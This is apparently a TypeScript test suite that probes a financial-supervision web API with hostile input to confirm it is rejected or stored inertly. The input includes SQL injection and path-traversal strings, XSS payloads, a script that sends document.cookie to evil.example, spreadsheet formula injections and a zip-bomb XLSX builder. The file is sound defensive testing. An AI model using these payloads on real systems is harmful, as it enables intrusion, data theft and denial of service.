import { existsSync, mkdtempSync, readFileSync } from "node:fs";
import { request as httpRequest } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { inspect } from "node:util";
import { crc32, deflateRawSync } from "node:zlib";
import { loadConfig } from "@beacon/core/config";
import { createApiToken } from "@beacon/core/identity/create-api-token";
import { seedUser, testPassword } from "@beacon/core/identity/test-support";
import { ingest } from "@beacon/core/intake/ingest";
import type { Beacon } from "@beacon/core/runtime";
import { testDb } from "@beacon/core/testing/db";
import { bankA, testCreditCode, testResidentId, writeTinyProvince } from "@beacon/core/testing/fixtures";
import { serve } from "@hono/node-server";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { z } from "zod";
import { createApp } from "./app.ts";
import { csrfHeader } from "./auth.ts";
import { routeDocs } from "./route.ts";
import { maxUploadBytes } from "./routes/intake.ts";

// Everything the server process writes during this file is captured, to prove no secret reaches a log.
const captured: string[] = [];
const restore: (() => void)[] = [];
function capture(): void {
  for (const stream of [process.stdout, process.stderr]) {
    const original = stream.write;
    stream.write = ((chunk: unknown, ...rest: unknown[]) => {
      captured.push(String(chunk));
      return (original as (...a: unknown[]) => boolean).call(stream, chunk, ...rest);
    }) as typeof stream.write;
    restore.push(() => {
      stream.write = original;
    });
  }
  for (const m of ["log", "info", "warn", "error", "debug"] as const) {
    const original = console[m];
    console[m] = (...args: unknown[]) => {
      captured.push(args.map((a) => (typeof a === "string" ? a : inspect(a, { depth: 6 }))).join(" "));
    };
    restore.push(() => {
      console[m] = original;
    });
  }
}

interface UploadBody {
  status?: string;
  problems?: { file: string; rule: string }[];
  error: { code: string; message: string };
}

let beacon: Beacon;
let app: ReturnType<typeof createApp>;
let dataDir: string;
let province: string;
const secrets: string[] = [testPassword];
const auth = {} as Record<"admin" | "auditor" | "cbrc", { cookie: string; csrf: string }>;
let bankToken: string;

async function signIn(username: string) {
  const res = await app.request("/api/auth/login", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ username, password: testPassword }),
  });
  const cookie = res.headers
    .getSetCookie()
    .map((c) => c.split(";")[0])
    .join("; ");
  const csrf = ((await res.json()) as { csrfToken: string }).csrfToken;
  secrets.push(cookie.split("=")[1]!.split(";")[0]!, csrf);
  return { cookie, csrf };
}

const as = (who: keyof typeof auth, init: RequestInit = {}) => ({
  ...init,
  headers: {
    ...(init.headers as Record<string, string>),
    cookie: auth[who].cookie,
    [csrfHeader]: auth[who].csrf,
  },
});

async function upload(files: { name: string; data: string | Uint8Array }[], dataset?: string) {
  const form = new FormData();
  for (const f of files)
    form.append("file", new File([typeof f.data === "string" ? f.data : new Uint8Array(f.data)], f.name));
  if (dataset) form.append("dataset", dataset);
  const res = await app.request("/api/uploads", as("admin", { method: "POST", body: form }));
  return {
    status: res.status,
    type: res.headers.get("content-type"),
    body: (await res.json()) as UploadBody,
  };
}

const count = async (table: string) =>
  Number((await beacon.db.query<{ n: string }>(`select count(*)::text as n from ${table}`))[0]!.n);
const stored = async () => ({
  submissions: await count("submissions"),
  institutions: await count("institutions"),
  lakeFiles: await count("lake_files"),
  batches: await count("batches"),
});
const healthy = async () => {
  expect((await app.request("/api/health")).status).toBe(200);
  expect((await app.request("/api/institutions?sector=banking", as("auditor"))).status).toBe(200);
};

beforeAll(async () => {
  capture();
  const db = await testDb();
  dataDir = mkdtempSync(join(tmpdir(), "hostile-data-"));
  const config = loadConfig({ BEACON_DATA_DIR: dataDir, BEACON_MODE: "test" });
  beacon = { db, config, close: () => db.close() };
  province = mkdtempSync(join(tmpdir(), "hostile-province-"));
  writeTinyProvince(province);
  await ingest({ db, dataDir, pseudonymKey: config.pseudonymKey }, join(province, "institutions.csv"));
  await ingest({ db, dataDir, pseudonymKey: config.pseudonymKey }, join(province, "licences.csv"));
  for (let n = 1; n <= 15; n++) secrets.push(testResidentId(n));
  app = createApp(beacon);
  await seedUser(db, "admin", "admin");
  await seedUser(db, "auditor", "auditor");
  await seedUser(db, "cbrc", "lead_supervisor", { unit: "cbrc_cq" });
  const bank = await seedUser(db, "bank-a", "institution", { institution: bankA });
  bankToken = (await createApiToken(db, bank, { name: "x", scopes: ["uploads", "read"] })).token;
  secrets.push(bankToken);
  auth.admin = await signIn("admin");
  auth.auditor = await signIn("auditor");
  auth.cbrc = await signIn("cbrc");
});
afterAll(async () => {
  for (const r of restore) r();
  await beacon.close();
});

const payloads = [
  "' or '1'='1",
  "1; drop table users; --",
  "name_en desc; select pg_sleep(5)",
  "x' union select password_hash, 1 from users --",
  "%",
  "_",
  "\\",
  "\u0000",
  "a".repeat(5000),
  "../../etc/passwd",
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
  "${7*7}{{7*7}}",
  "1e309",
  "-1",
  "NaN",
  "true",
];

describe("injection in every filter and sort parameter", () => {
  test("every documented query parameter of every route rejects or binds hostile values; the store is unchanged", async () => {
    const before = await Promise.all(
      ["users", "institutions", "cases", "sessions", "api_tokens", "audit_log"].map(count),
    );
    const routes = [
      ...new Map(routeDocs.filter((d) => d.method === "get" && d.query).map((d) => [d.path, d])).values(),
    ];
    expect(routes.length).toBeGreaterThanOrEqual(12);
    let tried = 0;
    for (const r of routes) {
      const params = Object.keys((r.query as z.ZodObject).shape);
      const path = r.path.replace(/\{(\w+)\}/g, "1");
      // Whoever may call the route at all: the auditor reads everything, the administrator the rest.
      const who = (await app.request(path, as("auditor"))).status === 403 ? "admin" : "auditor";
      for (const p of params) {
        for (const value of payloads) {
          const res = await app.request(`${path}?${p}=${encodeURIComponent(value)}`, as(who));
          tried++;
          expect([200, 400, 404], `${path} ${p}=${value.slice(0, 40)}`).toContain(res.status);
          expect(res.headers.get("content-type")).toMatch(/^application\/json/);
          const text = await res.text();
          expect(text).not.toMatch(/\$argon2|password_hash/);
          if (p === "sort" || p === "order") expect(res.status, `${path} ${p}`).toBe(400);
        }
      }
      const twice = await app.request(`${path}?page=1&page=2`, as(who));
      if (params.includes("page")) expect(twice.status).toBe(400);
    }
    expect(tried).toBeGreaterThan(1000);
    expect(
      await Promise.all(["users", "institutions", "cases", "sessions", "api_tokens", "audit_log"].map(count)),
    ).toEqual(before);
  });

  test("free-text filters are bound: a quote matches nothing and breaks nothing", async () => {
    for (const path of ["/api/institutions", "/api/cases", "/api/filings"]) {
      const res = await app.request(`${path}?q=${encodeURIComponent("' or '1'='1")}`, as("auditor"));
      expect(res.status).toBe(200);
      expect(((await res.json()) as { total: number }).total).toBe(0);
    }
    const all = (await (await app.request("/api/institutions", as("auditor"))).json()) as { total: number };
    const pct = (await (await app.request("/api/institutions?q=%25", as("auditor"))).json()) as {
      total: number;
    };
    expect(all.total).toBe(3);
    expect(pct.total).toBe(0);
  });

  test.each([
    "1%20or%201%3D1",
    "1;drop%20table%20cases",
    "-1",
    "0",
    "99999999999999999999",
    "%00",
    "..%2F..%2Fetc",
    "1e3",
  ])("a hostile path id %s is a 400 or 404, never a 500", async (id) => {
    for (const path of [
      `/api/cases/${id}`,
      `/api/events/${id}`,
      `/api/filings/${id}`,
      `/api/submissions/${id}`,
      `/api/audit/entries/${id}/proof`,
    ]) {
      const res = await app.request(path, as("auditor"));
      expect([400, 404], `${path} -> ${res.status}`).toContain(res.status);
    }
    const code = await app.request(`/api/institutions/${id}`, as("auditor"));
    expect([400, 404]).toContain(code.status);
  });
});

describe("hostile uploads", () => {
  test("an upload over the size limit is refused with 413 before it is read, and the server keeps serving", async () => {
    const server = serve({ fetch: app.fetch, port: 0, hostname: "127.0.0.1" });
    await new Promise((resolve) => server.once("listening", resolve));
    const { port } = server.address() as AddressInfo;
    const res = await new Promise<{ status: number; body: string; type: string }>((resolve, reject) => {
      const req = httpRequest(
        {
          host: "127.0.0.1",
          port,
          method: "POST",
          path: "/api/uploads",
          headers: {
            cookie: auth.admin.cookie,
            [csrfHeader]: auth.admin.csrf,
            "content-type": "multipart/form-data; boundary=x",
            "content-length": String(maxUploadBytes + 1),
          },
        },
        (r) => {
          let body = "";
          r.on("data", (d) => {
            body += d;
          });
          r.on("end", () =>
            resolve({ status: r.statusCode ?? 0, body, type: String(r.headers["content-type"]) }),
          );
        },
      );
      req.on("error", reject);
      req.write(Buffer.alloc(64 * 1024, 0x41));
    });
    expect(res.status).toBe(413);
    expect(res.type).toMatch(/^application\/json/);
    expect(JSON.parse(res.body).error.code).toBe("PAYLOAD_TOO_LARGE");
    const health = await fetch(`http://127.0.0.1:${port}/api/health`);
    expect(health.status).toBe(200);
    server.close();
  });

  test("truncated and malformed files are answered with a clear error and store nothing", async () => {
    const before = await stored();
    const loans = readFileSync(join(province, "loans", "2026-09.csv"), "utf8");
    const cut = await upload(
      [{ name: "2026-09.csv", data: `${loans.slice(0, Math.floor(loans.length / 2))}"unclosed` }],
      "loans",
    );
    expect(cut.status).toBe(422);
    expect(cut.body.problems?.[0]).toMatchObject({ file: "loans/2026-09.csv", rule: "malformed_row" });
    const binary = await upload(
      [{ name: "2026-09.csv", data: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 1, 2, 3]) }],
      "loans",
    );
    expect(binary.status).toBe(400);
    expect(binary.body.error.message).toMatch(/binary content where text was expected/);
    // Errors name the uploaded file, never the server's folders.
    expect(binary.body.error.message).toBe(
      "loans/2026-09.csv: binary content where text was expected; save the file as UTF-8 CSV",
    );
    const notZip = await upload([{ name: "institutions.xlsx", data: "this is not a zip" }]);
    expect(notZip.status).toBe(400);
    expect(notZip.body.error.message).toMatch(/cannot be read as XLSX/);
    const json = await upload([{ name: "institutions.json", data: '[{"code": "91500' }]);
    expect(json.status).toBe(400);
    const empty = await upload([{ name: "institutions.csv", data: "" }]);
    expect([400, 422]).toContain(empty.status);
    expect(await stored()).toEqual(before);
    await healthy();
  });

  test("text in the wrong encoding is refused with a message that says how to save it", async () => {
    const text = readFileSync(join(province, "institutions.csv"), "utf8");
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    const r = await upload([{ name: "institutions.csv", data: utf16 }]);
    expect(r.status).toBe(400);
    expect(r.body.error.message).toMatch(/UTF-16 text is not accepted; save the file as UTF-8/);
    const latin = await upload([
      { name: "institutions.csv", data: Buffer.from([0x63, 0x6f, 0x64, 0x65, 0x0a, 0xff, 0xff, 0xff, 0x0a]) },
    ]);
    expect(latin.status).toBe(400);
    expect(latin.body.error.message).toMatch(/neither UTF-8 nor GBK/);
  });

  test("formulas in cells are stored as text and returned as JSON data, never evaluated", async () => {
    const formulas = ['=HYPERLINK("http://evil.example","click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3"];
    const rows: (string | number | null)[][] = [["code", "name_zh", "name_en", "type", "district", "status"]];
    const codes = ["91500103MA0000A1", "91500103MA0000B2", "91500103MA0000C3", "91500103MA0000D4"].map(
      (_, i) => {
        const body = `91500103MA${String(500 + i).padStart(6, "0")}X`.slice(0, 17);
        return body;
      },
    );
    const { creditCodeCheckChar } = await import("@beacon/core/contract/identifiers");
    const full = codes.map((b) => b + creditCodeCheckChar(b));
    formulas.forEach((f, i) => {
      rows.push([full[i]!, "公式测试", f, "small_loan", "渝中区", "active"]);
    });
    const quoted = rows
      .map((row) => row.map((v) => `"${String(v ?? "").replaceAll('"', '""')}"`).join(","))
      .join("\n");
    const r = await upload([{ name: "institutions.csv", data: `${quoted}\n` }]);
    expect(r.status, JSON.stringify(r.body.problems ?? r.body)).toBe(200);
    for (const [i, f] of formulas.entries()) {
      const res = await app.request(`/api/institutions/${full[i]}`, as("auditor"));
      expect(res.headers.get("content-type")).toMatch(/^application\/json/);
      expect(((await res.json()) as { nameEn: string }).nameEn).toBe(f);
    }
    // In a workbook, a formula cell contributes its cached result only.
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("institutions");
    ws.addRow(["code", "name_zh", "name_en", "type", "district", "status"]);
    const body = `91500103MA${String(600).padStart(6, "0")}X`.slice(0, 17);
    const code = body + creditCodeCheckChar(body);
    ws.addRow([
      code,
      "公式",
      { formula: 'HYPERLINK("http://evil.example","x")', result: "Cached Name" },
      "pawn",
      "渝中区",
      "active",
    ]);
    const x = await upload([
      { name: "institutions.xlsx", data: new Uint8Array(await wb.xlsx.writeBuffer()) },
    ]);
    expect(x.status).toBe(200);
    const got = (await (await app.request(`/api/institutions/${code}`, as("auditor"))).json()) as {
      nameEn: string;
    };
    expect(got.nameEn).toBe("Cached Name");
  });

  test("an XLSX zip bomb is refused and stores nothing; the server keeps serving", async () => {
    // 40 MB of one repeated character in a single cell compresses about 1000:1 (see the report on the size guard).
    const before = await stored();
    const bomb = xlsx(40_000_000);
    expect(bomb.length).toBeLessThan(100_000);
    const r = await upload([{ name: "institutions.xlsx", data: bomb }]);
    expect([400, 413, 422]).toContain(r.status);
    expect(await stored()).toEqual(before);
    await healthy();
  });

  test("file names cannot leave the upload folder", async () => {
    const text = readFileSync(join(province, "licences.csv"), "utf8");
    for (const name of [
      "../../../../licences.csv",
      "..\\..\\licences.csv",
      "/etc/licences.csv",
      "licences.csv\u0000.exe",
    ]) {
      const r = await upload([{ name, data: text }]);
      expect([200, 400], name).toContain(r.status);
      expect(JSON.stringify(r.body)).not.toContain(dataDir);
    }
    expect(existsSync(join(dataDir, "..", "licences.csv"))).toBe(false);
    expect(existsSync(join(dataDir, "tmp", "..", "..", "licences.csv"))).toBe(false);
    expect(existsSync("/etc/licences.csv")).toBe(false);
    const passwd = await upload([{ name: "../../etc/passwd", data: "root:x:0:0" }]);
    expect(passwd.status).toBe(400);
    expect(passwd.body.error.message).toMatch(/unsupported type/);
  });

  // The upload route passes the caller's institution to intake as `allowedReporters` (see auth.ts).
  test("an institution cannot submit another institution's rows: the upload is rejected whole", async () => {
    const loans = readFileSync(join(province, "loans", "2026-09.csv"), "utf8");
    const [header, ...rows] = loans.trimEnd().split("\n");
    const own = [header, ...rows.filter((r) => r.includes(bankA))].join("\n");
    expect(own.split("\n").length).toBeGreaterThan(1);
    expect(rows.some((r) => !r.includes(bankA))).toBe(true);
    const send = async (data: string) => {
      const form = new FormData();
      form.append("file", new File([data], "2026-09.csv"));
      form.append("dataset", "loans");
      const res = await app.request("/api/uploads", {
        method: "POST",
        headers: { authorization: `Bearer ${bankToken}` },
        body: form,
      });
      return { status: res.status, body: (await res.json()) as UploadBody };
    };
    const before = await stored();
    const mixed = await send(loans);
    expect([400, 403, 422]).toContain(mixed.status);
    expect(JSON.stringify(mixed.body)).toMatch(new RegExp(testCreditCode(2)));
    expect(await stored()).toEqual(before);
    // The same bank's own rows go through.
    expect((await send(own)).status).toBe(200);
    await healthy();
  });
});

describe("stored script", () => {
  test("markup in titles, comments and file names is stored as given and only ever returned as JSON", async () => {
    const title = `<img src=x onerror="alert(document.cookie)">`;
    const comment = `</script><script>fetch('//evil.example/'+document.cookie)</script>`;
    const created = await app.request(
      "/api/cases",
      as("cbrc", {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ title, source: { kind: "manual", ref: title }, institution: bankA }),
      }),
    );
    expect(created.status).toBe(201);
    const { id } = (await created.json()) as { id: number };
    await app.request(
      `/api/cases/${id}/comments`,
      as("cbrc", {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ body: comment }),
      }),
    );
    const form = new FormData();
    form.append(
      "file",
      new File(["<html><script>alert(1)</script></html>"], "../../<script>alert(1)</script>.txt"),
    );
    const att = await app.request(`/api/cases/${id}/attachments`, as("cbrc", { method: "POST", body: form }));
    expect(att.status).toBe(201);
    const a = (await att.json()) as { id: number; fileName: string };
    // "</script>" holds a slash: everything before it is a folder, and folders are dropped.
    expect(a.fileName).toBe("script_.txt");
    const res = await app.request(`/api/cases/${id}`, as("auditor"));
    expect(res.headers.get("content-type")).toBe("application/json");
    expect(res.headers.get("content-security-policy")).toMatch(/^default-src 'none'/);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    const got = (await res.json()) as { title: string; comments: { body: string }[] };
    expect(got.title).toBe(title);
    expect(got.comments[0]!.body).toBe(comment);
    const nul = await app.request(
      "/api/feed",
      as("cbrc", {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ title: "a\u0000b" }),
      }),
    );
    expect(nul.status).toBe(400);
    const file = await app.request(`/api/cases/${id}/attachments/${a.id}`, as("auditor"));
    expect(file.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(file.headers.get("content-disposition")).toMatch(/^attachment; filename="script_.txt"/);
    expect(file.headers.get("content-security-policy")).toMatch(/sandbox/);
    expect(file.headers.get("x-content-type-options")).toBe("nosniff");
  });
});

describe("the server after all this", () => {
  test("still serves, and logged no password, session id, CSRF token, API token or resident identity number", async () => {
    await healthy();
    // The capture itself works: a line written now is seen.
    console.error("capture check");
    expect(captured.join("\n")).toContain("capture check");
    const log = captured.join("\n");
    for (const s of secrets)
      expect(log.includes(s), `a secret starting ${s.slice(0, 4)} was logged`).toBe(false);
  });
});

/** A minimal XLSX whose one cell holds `n` repeated characters: small on the wire, large once inflated. */
function xlsx(n: number): Buffer {
  const text = (s: string) => Buffer.from(s);
  const sheet = Buffer.concat([
    text(
      '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>',
    ),
    Buffer.alloc(n, 0x41),
    text("</t></is></c></row></sheetData></worksheet>"),
  ]);
  const parts = [
    {
      name: "[Content_Types].xml",
      data: text(
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
      ),
    },
    {
      name: "_rels/.rels",
      data: text(
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
      ),
    },
    {
      name: "xl/workbook.xml",
      data: text(
        '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
      ),
    },
    {
      name: "xl/_rels/workbook.xml.rels",
      data: text(
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
      ),
    },
    { name: "xl/worksheets/sheet1.xml", data: sheet },
  ];
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const packed = deflateRawSync(p.data, { level: 9 });
    const name = Buffer.from(p.name);
    const crc = crc32(p.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(p.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, packed);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(crc, 16);
    entry.writeUInt32LE(packed.length, 20);
    entry.writeUInt32LE(p.data.length, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(offset, 42);
    central.push(entry, name);
    offset += 30 + name.length + packed.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}
